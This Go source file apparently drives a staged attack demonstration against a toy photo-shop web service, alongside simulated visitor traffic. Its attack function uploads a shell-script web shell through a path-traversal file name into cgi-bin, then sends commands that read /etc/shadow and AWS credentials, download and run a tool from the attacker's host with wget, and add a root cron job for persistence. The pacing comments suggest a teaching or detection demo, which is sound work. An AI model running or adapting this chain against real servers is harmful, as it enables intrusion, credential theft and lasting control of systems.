// SPDX-License-Identifier: Apache-2.0

package main

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"time"
)

const (
	visitPause = 50 * time.Millisecond
	// stepPause is between the steps of the attack, so that one can follow it.
	stepPause = time.Second
)

// visitors look at the shop all day. They end with the demonstration.
func visitors(arguments []string) error {
	if len(arguments) != 1 {
		return errors.New("say where the front end is")
	}
	front := "http://" + arguments[0] + ":" + webPort
	if err := opened(front); err != nil {
		return err
	}
	for visit := 0; ; visit++ {
		var err error
		switch visit % 4 {
		case 0:
			err = post(fmt.Sprintf("%s/photos?name=cup-%d.jpeg", front, visit%32), fmt.Sprint("photo ", visit))
		case 1:
			_, err = ask(front + "/cgi-bin/counter")
		default:
			_, err = ask(front + "/")
		}
		if err != nil {
			return err
		}
		time.Sleep(visitPause)
	}
}

// opened waits until all of the shop answers.
func opened(front string) error {
	for end := time.Now().Add(patience); ; time.Sleep(visitPause) {
		if _, err := ask(front + "/"); err == nil || time.Now().After(end) {
			return err
		}
	}
}

func post(url, body string) error {
	client := http.Client{Timeout: patience, Transport: &http.Transport{DisableKeepAlives: true}}
	response, err := client.Post(url, "application/octet-stream", strings.NewReader(body))
	if err != nil {
		return err
	}
	defer func() { _ = response.Body.Close() }()
	if text, _ := io.ReadAll(response.Body); response.StatusCode != http.StatusOK {
		return fmt.Errorf("%s: %s: %s", url, response.Status, text)
	}
	return nil
}

// webShell is what the attacker stores as a photo: it executes whatever it is sent.
const webShell = "#!/bin/sh\necho Content-Type: text/plain; echo\neval \"$(/bin/cat)\" 2>&1\n"

// tool is the name under which this program lies in the shop when the attacker has downloaded it.
const tool = ".cup"

// agent is what the attacker's tool does: it tells its owner that it is there.
func agent(arguments []string) error {
	if len(arguments) != 1 {
		return errors.New("say whom to tell")
	}
	_, err := ask("http://" + arguments[0] + "/here")
	return err
}

// attack goes in by the hole, and says what it does.
func attack(arguments []string) error {
	if len(arguments) != 2 {
		return errors.New("say where the front end is, and where you are")
	}
	front, own := "http://"+arguments[0]+":"+webPort, arguments[1]
	if err := offerTool(own); err != nil {
		return err
	}
	fmt.Println("web shell: a photo by the name of ../cgi-bin/.cup.cgi is a program, which executes what it is sent")
	if err := post(front+"/photos?name=../cgi-bin/.cup.cgi", webShell); err != nil {
		return err
	}
	// With their whole names, since the shell of busybox would do itself what it has inside, and execute nothing.
	for _, step := range []struct{ what, run string }{
		{"discovery", "/usr/bin/id; /bin/uname -a; /bin/ps; /usr/bin/head -n 3 /proc/net/tcp"},
		{"credential read", "/bin/cat /etc/shadow /root/.aws/credentials"},
		{"tool download", "/usr/bin/wget -q -O /tmp/.cup http://" + own + "/tool; /bin/chmod 755 /tmp/.cup; /tmp/.cup " + own},
		{"persistence", "echo '* * * * * /tmp/.cup " + own + "' >> /var/spool/cron/crontabs/root"},
	} {
		time.Sleep(stepPause)
		fmt.Printf("%s: %s\n", step.what, step.run)
		if err := post(front+"/cgi-bin/.cup.cgi", step.run); err != nil {
			return err
		}
	}
	return nil
}

// offerTool serves the tool.
func offerTool(own string) error {
	program, err := os.Executable()
	if err != nil {
		return err
	}
	listener, err := net.Listen("tcp", own+":80")
	if err != nil {
		return err
	}
	server := &http.Server{ReadHeaderTimeout: patience, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/tool" {
			http.ServeFile(w, r, program)
		}
	})}
	go func() { _ = server.Serve(listener) }()
	return nil
}
